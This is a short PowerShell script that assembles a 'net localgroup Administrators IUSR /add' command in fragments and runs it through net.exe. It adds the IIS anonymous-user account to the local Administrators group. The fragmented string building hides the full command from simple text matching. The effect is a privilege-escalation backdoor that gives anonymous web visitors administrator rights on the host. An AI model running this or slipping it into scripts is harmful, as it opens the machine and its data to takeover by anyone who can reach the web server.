$sb = [System.Text.StringBuilder]::new()
[void] $sb.Append('localgroup ')
[void] $sb.AppendFormat('"{0}" ', 'Administrators')
[void] $sb.Append('IUSR').Append(' /add')
Start-Process -FilePath net.exe -ArgumentList $sb.ToString() -Wait -NoNewWindow
